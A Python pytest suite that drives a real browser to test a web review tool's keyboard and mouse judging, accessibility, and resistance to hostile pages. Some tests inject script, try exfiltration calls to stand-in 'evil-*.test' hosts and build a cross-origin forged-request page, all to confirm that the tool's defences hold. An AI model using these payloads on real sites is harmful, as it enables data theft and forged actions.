"""The page of `review` in a real browser: judging by keys, hostile pages, themes."""

import json
import re

import pytest
from browser import CONTRAST, browsing
from reviews import TRIES, attack, hostile_pages, make_run, plain_pages, reviewing
from webserver import Page, serving

from mr_reuse.review import book as books
from mr_reuse.review import judgements

pytestmark = pytest.mark.browser
PLACE = 'document.querySelector("#place").textContent'
SAID = 'document.querySelector("#said").textContent'
SHOWN = '!!document.querySelector("#text .part")'
NAMELESS = """[...document.querySelectorAll('button, input, textarea, progress')]
  .filter(one => !one.labels?.length && !one.textContent.trim() && !one.ariaLabel)
  .map(one => one.outerHTML)"""
OF_ITEM = '#title, #about, #pages, #url, #text, #labels'


@pytest.fixture(scope='module')
def browser():
    with browsing() as found:
        yield found


@pytest.fixture(scope='module')
def plain(tmp_path_factory):
    return make_run(tmp_path_factory.mktemp('plain'), plain_pages())


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    return make_run(tmp_path_factory.mktemp('hostile'), hostile_pages())


def opened(browser, url: str):
    """Open the page anew; what it says from now on is noted."""
    browser.goto('about:blank')
    browser.requests.clear()
    browser.said.clear()
    browser.trap.asked.clear()
    browser.screen()
    browser.goto(url)
    browser.wait(SHOWN)


def at(browser, place: int) -> str:
    """Wait until an item is shown; what stands above it."""
    return browser.wait(f'{PLACE}.startsWith("{place} of") && {SHOWN} && {PLACE}')


def kept(run, judge: str) -> dict[int, str]:
    """What holds of the items that somebody has judged, by place."""
    lines = [line for line in books.read_all(str(run)) if line]
    found = judgements.samples(lines, judge=judge)
    return {
        line.place: line.categories
        for judges in found.values()
        for line in judges[judge].values()
    }


# Judging


def test_only_what_is_shown_is_judged(browser, plain):
    """Not an item that is still on its way, nor one that cannot be read."""
    with reviewing(plain, '--judge', 'eve', '--sample', '6') as (_, url):
        opened(browser, url)
        at(browser, 1)
        browser.js(
            'cache.clear(); window.given = fetch; window.fetch = (path, how) => '
            'path === "items/2" ? new Promise(done => { window.late = done; }) : '
            'path === "items/3" ? Promise.resolve(new Response("no", {status: 500})) : '
            'given(path, how); 0'
        )
        browser.press('n')
        browser.wait('!!window.late')
        browser.press('b')
        browser.settle()
        assert at(browser, 1) == '1 of 6' and kept(plain, 'eve') == {}
        browser.js('late(given("items/2")); 0')
        at(browser, 2)
        browser.press('n')
        browser.wait(f'{PLACE}.startsWith("3 of")')
        told = 'document.querySelector("#trouble").textContent'
        assert browser.js(told) == '500: no'
        browser.press('b')
        browser.settle()
        assert browser.js(f'{PLACE}') == '3 of 6' and kept(plain, 'eve') == {}
        browser.press('n')
        at(browser, 4)
        assert browser.js('document.querySelector("#trouble").hidden')
        browser.press('b')
        at(browser, 5)
        assert kept(plain, 'eve') == {4: 'Blog'}


def test_judged_by_keys(browser, plain):
    with reviewing(plain, '--judge', 'ann', '--sample', '6') as (process, url):
        opened(browser, url)
        for place, key in enumerate('btl', 1):
            at(browser, place)
            browser.press(key)
        assert '4 of 6' in at(browser, 4)
        assert browser.js(SAID) == '3: Link farm; judged: 3 of 6'
        assert kept(plain, 'ann') == {1: 'Blog', 2: 'Templated/CMS', 3: 'Link farm'}
        browser.press('u')
        assert at(browser, 3) == '3 of 6'
        assert kept(plain, 'ann') == {1: 'Blog', 2: 'Templated/CMS'}
        # Two categories, and one of them taken away again.
        browser.press('a', shift=True)
        browser.wait(f'{PLACE}.endsWith("Ads")')
        browser.press('c', shift=True)
        browser.wait(f'{PLACE}.endsWith("Ads; Clone")')
        browser.press('a', shift=True)
        browser.wait(f'{PLACE}.endsWith("6 · Clone")')
        # A note, in which keys are letters.
        browser.press('/')
        browser.write('btl <b>?</b>')
        browser.press('Escape')
        browser.wait(f'{SAID} === "Note saved."')
        assert at(browser, 3) == '3 of 6 · Clone'
        browser.press('ArrowRight')
        at(browser, 4)
        browser.press('n')
        at(browser, 5)
        browser.press('p')
        at(browser, 4)
        browser.press('ArrowLeft')
        at(browser, 3)
        assert browser.js('document.querySelector("#note").value') == 'btl <b>?</b>'
        process.kill()
        process.wait()
        browser.press('b')
        told = browser.wait('document.querySelector("#trouble").textContent')
        assert told.startswith('Not saved. The program does not answer.')
    with reviewing(plain, '--judge', 'ann', '--sample', '6') as (_, url):
        opened(browser, url)
        at(browser, 4)  # the first that is not judged
        assert browser.js('document.querySelector("#progress").textContent') == (
            '3 of 6 judged'
        )
        for place in (4, 5, 6):
            at(browser, place)
            browser.press('m')
        done = browser.wait(f'{PLACE}.includes("all are judged") && {PLACE}')
        assert done.endswith(f'python -m mr_reuse.review summarize {plain}')
        assert browser.said == []
    assert set(kept(plain, 'ann')) == {1, 2, 3, 4, 5, 6}


def test_judged_by_mouse(browser, plain):
    """Whoever has no keys, or wants none, has buttons; judges do not see each other."""
    with reviewing(plain, '--judge', 'bob', '--sample', '3') as (_, url):
        opened(browser, url)
        assert browser.js('document.querySelector("#progress").textContent') == (
            '0 of 3 judged'
        )
        click = 'document.querySelector(`{}`).click()'
        browser.js(click.format('#shortcuts'))
        browser.press('b')
        browser.js(click.format('[data-name="Forum"]'))
        at(browser, 2)
        browser.js(click.format('#several'))
        browser.js(click.format('[data-name="Ads"]'))
        browser.wait(f'{PLACE}.endsWith("Ads")')
        browser.js(click.format('[data-name="Blog"]'))
        browser.wait(f'{PLACE}.endsWith("Blog; Ads")')
        browser.js(click.format('#undo'))
        browser.wait(f'{PLACE}.endsWith("3 · Ads")')
        browser.js(click.format('#next'))
        at(browser, 3)
        assert kept(plain, 'bob') == {1: 'Forum', 2: 'Ads'}


def test_what_is_shown(browser, plain):
    where = 'document.querySelector("#url").textContent'
    with reviewing(plain, '--judge', 'eva') as (_, url):
        opened(browser, url)
        first = browser.js(where)
        browser.press('.')
        browser.wait(f'{where} !== {json.dumps(first)}')
        browser.press(',')
        browser.wait(f'{where} === {json.dumps(first)}')
        copied = 'document.querySelector("#text .copied").textContent'
        assert re.match(r'\d+copied chunk \d', browser.js(copied))
        browser.press('v')
        browser.wait(f'/^\\d+<p>copied chunk/.test({copied})')
        # Where else it is: the first page of the first label.
        browser.js('document.querySelector("#labels li button").click()')
        other = 'document.querySelector("#labels .around .copied")'
        browser.wait(f'!!{other}')
        assert browser.js(f'{other}.textContent').startswith('<p>copied chunk')
        expanded = 'document.querySelector("#labels li button").ariaExpanded'
        assert browser.js(expanded) == 'true'
        browser.press('?')
        browser.wait('document.querySelector("#help").open')
        browser.press('b')  # is no judgement while the help is open
        browser.press('Escape')
        browser.wait('!document.querySelector("#help").open')
        assert kept(plain, 'eva') == {}


def test_how_many_hosts_are_left_out(browser, tmp_path):
    """A list that is not all of it says so; hours may matter."""
    run = make_run(tmp_path, hostile_pages(9))
    with reviewing(run, '--what', 'pages', '--judge', 'eva') as (_, url):
        opened(browser, url)
        first = 'document.querySelector("#labels article")'
        said = browser.js(f'{first}.textContent')
        assert (
            'in this item 1 copy on 1 page; in the run 9 copies on 9 pages of 9 hosts'
            in said
        )
        assert said.endswith('and on 3 more hosts, not captured earlier')
        dates = f'[...{first}.querySelectorAll(".date")].map(one => one.textContent)'
        assert set(browser.js(dates)) == {'2020-01-02 03:04:05'}


def test_what_it_was_drawn_from(browser, hostile):
    """A host and the folders that fill it are one; their names are text as well."""
    with reviewing(hostile, '--judge', 'eva') as (_, url):
        for width in 1280, 390:
            opened(browser, url)
            browser.screen(width)
            at(browser, 1)
            assert browser.js('document.querySelector("#who").textContent') == (
                f'4 of 4, hosts joined with equal folders; judged by eva; in {hostile}'
            )
            about = browser.js('document.querySelector("#about").textContent')
            assert re.search(r'; pages: 1, all in x/"><script>alert\(\d\)</$', about)


# Pages that try


def serve(browser, site, text: bytes) -> str:
    """A page on a server of its own."""
    site.pages['/'] = Page(text, {'Content-Type': 'text/html; charset=utf-8'})
    return f'{site.url}/'


def test_the_attacks_work_where_nothing_stops_them(browser):
    """Else the tests below would prove nothing."""
    with serving() as site:
        for name in ('script', 'events', 'svg', 'css', 'refresh', 'link', 'frames'):
            browser.goto('about:blank')
            browser.trap.asked.clear()
            browser.call('Page.navigate', url=serve(browser, site, attack(TRIES[name])))
            browser.settle(1)
            asked = ' '.join(browser.trap.asked)
            owned = browser.js('document.title') == 'owned'
            assert owned or 'evil-' in asked, name


@pytest.mark.parametrize('what', ['pages', 'neighborhoods', 'chunks'])
def test_hostile_pages(browser, hostile, what):
    with reviewing(hostile, '--what', what, '--sample', '13') as (_, url):
        opened(browser, url)
        title = browser.js('document.title')
        drawn = browser.js('state.drawn')
        seen = ''
        for place in range(1, drawn + 1):
            at(browser, place)
            for _ in 'as text', 'as source':
                browser.js(
                    'Promise.all([...document.querySelectorAll("#labels li button")]'
                    '.map(one => one.click()))'
                )
                browser.settle(0.1)
                seen += browser.js('document.body.textContent')
                inside = browser.js(
                    f'[...document.querySelectorAll("{OF_ITEM}")].flatMap(one => '
                    '[...one.querySelectorAll("*")].map(two => two.tagName))'
                )
                assert set(inside) <= set('DIV SPAN P UL LI BUTTON ARTICLE H4'.split())
                browser.press('v')
            browser.press('n')
        browser.settle(0.5)
        for name, text in TRIES.items():
            assert name == 'around' or attack(text).decode() in seen, name
        assert 'a\\u202eb\\u2066c\\u2069\\u200fd \\u2028 e\\ufeff' in seen
        assert not set('\u202e\u2066\u2028\ufeff\x00\x1b').intersection(seen)
        assert browser.js('document.title') == title != 'owned'
        assert browser.js('location.href') == url
        every = '[...document.querySelectorAll("*")]'
        found = browser.js(f'{every}.flatMap(one => one.getAttributeNames())')
        assert not [name for name in found if name.startswith('on')]
        assert not {'srcdoc', 'style', 'action'} & set(found)
        # its own scripts and its own styles
        assert (found.count('src'), found.count('href')) == (2, 1)
    assert browser.said == []
    assert browser.requests and all(one.startswith(url) for one in browser.requests)
    assert not [
        line for line in browser.trap.asked if 'evil' in line or '.test' in line
    ]


def test_the_policy_holds(browser, hostile):
    """Even with a hole in the page there would be no way out of it."""
    with reviewing(hostile, '--judge', 'ann') as (_, url):
        opened(browser, url)
        tries = {
            'fetch("http://evil-20.test/").then(() => 1, () => 0)': 0,
            'new Promise(done => { const one = new Image(); one.onload = () => done(1);'
            'one.onerror = () => done(0); one.src = "http://evil-21.test/"; })': 0,
            '(() => { try { document.body.innerHTML = "<b>x</b>"; return 1 }'
            'catch { return 0 } })()': 0,
            '(() => { const one = document.createElement("script"); try { one.text ='
            '"document.title = 1"; document.head.append(one) } catch {}'
            'return document.title === "1" })()': False,
            'navigator.sendBeacon("http://evil-22.test/", "x") && 0': 0,
            '(() => { const one = document.createElement("iframe"); one.src ='
            '"http://evil-23.test/"; document.body.append(one); return 0 })()': 0,
            '(() => { const one = document.createElement("link"); one.rel ='
            '"stylesheet"; one.href = "http://evil-24.test/";'
            'document.head.append(one); return 0 })()': 0,
        }
        for code, result in tries.items():
            assert browser.js(code) == result, code
        browser.settle(1)
        assert len([text for text in browser.said if 'Content Security' in text]) >= 5
        assert not [line for line in browser.trap.asked if '.test' in line]


def test_other_sites_in_the_same_browser(browser, hostile):
    """A page of another origin that even knows the address: nothing is said or read."""
    with reviewing(hostile, '--judge', 'ann') as (_, url), serving() as site:
        said = '{"place": 1, "keys": ["b"], "note": ""}'
        page = f"""<title>other</title><iframe src="{url}"></iframe>
            <form method="post" enctype="text/plain" action="{url}judgements"></form>
            <script src="{url}review.js" onload="document.title = 'read'"></script>
            <script>
            const how = {{method: 'POST', mode: 'no-cors', body: '{said}'}};
            const type = {{'Content-Type': 'application/json'}};
            const json = {{mode: 'cors', headers: type}};
            Promise.all([
              fetch('{url}judgements', how).catch(() => 0),
              fetch('{url}judgements', {{...how, ...json}}).catch(() => 0),
              fetch('{url}undo', {{...how, body: '{{}}'}}).catch(() => 0),
              fetch('{url}state').then(() => document.title = 'read', () => 0),
            ]).then(() => window.tried = true);
            </script>"""
        browser.goto(serve(browser, site, page.encode()))
        browser.wait('window.tried')
        assert browser.js('document.title') == 'other'
        assert browser.js('frames.length ? frames[0].length : 0') == 0
        browser.js('document.forms[0].submit()')
        browser.settle(0.5)
        assert 'asked by another site' in browser.js('document.body.textContent')
        assert kept(hostile, 'ann') == {}
        # The same from the page itself is heard.
        opened(browser, url)
        browser.press('b')
        at(browser, 2)
        assert set(kept(hostile, 'ann')) == {1}


# For everybody


def assert_legible(browser):
    [least, said], [count, _] = browser.js(CONTRAST)
    assert least >= 4.5, said
    assert count > 50


@pytest.mark.parametrize('what', ['pages', 'neighborhoods', 'chunks'])
@pytest.mark.parametrize('dark', [False, True])
def test_legible(browser, plain, what, dark):
    with reviewing(plain, '--what', what, '--judge', 'max') as (_, url):
        opened(browser, url)
        for width in (1440, 1024, 390):
            browser.screen(width, 800, dark)
            browser.js('document.querySelector("#labels li button")?.click()')
            browser.settle(0.1)
            assert_legible(browser)
            assert browser.js('document.documentElement.scrollWidth') <= width
        browser.press('b' if what != 'chunks' else 'g', shift=True)
        browser.wait('!!document.querySelector("#categories [aria-pressed=true]")')
        assert_legible(browser)
        browser.press('?')
        browser.wait('document.querySelector("#help").open')
        assert_legible(browser)
        assert browser.js(NAMELESS) == []


def test_for_those_who_listen(browser, plain):
    """All has a name and a role, what happened is said, the focus is to be seen."""
    with reviewing(plain, '--judge', 'zoe') as (_, url):
        opened(browser, url)
        assert browser.js('document.documentElement.lang') == 'en'
        assert browser.js('document.querySelector("#said").role') == 'status'
        assert browser.js('document.querySelector("#trouble").role') == 'alert'
        browser.call('Accessibility.enable')
        told = browser.call('Accessibility.getFullAXTree')['nodes']
        roles = [
            (node['role']['value'], node.get('name', {}).get('value', ''))
            for node in told
            if not node['ignored'] and 'role' in node
        ]
        for role in ('button', 'checkbox', 'textbox', 'progressbar', 'region'):
            names = [name for found, name in roles if found == role]
            assert names and all(names), role
        assert ('button', 'Link farm, key l') in roles
        assert [name for role, name in roles if role == 'heading'][:2] == [
            'Review: bad neighborhoods',
            'Category',
        ]
        # By Tab one comes to everything, and sees where one is.
        reached = set()
        for _ in range(40):
            browser.press('Tab')
            told = browser.js(
                '[document.activeElement.id || document.activeElement.dataset.name,'
                'getComputedStyle(document.activeElement).outlineStyle]'
            )
            if told[0]:
                reached.add(told[0])
                assert told[1] == 'solid', told
        assert reached >= {'Blog', 'Misc.', 'several', 'note', 'next', 'text', 'view'}
        # After a judgement the focus is at what is to be judged next.
        browser.press('b')
        at(browser, 2)
        assert browser.js('document.activeElement.id') == 'title'
        assert browser.js(SAID) == '1: Blog; judged: 1 of 18'
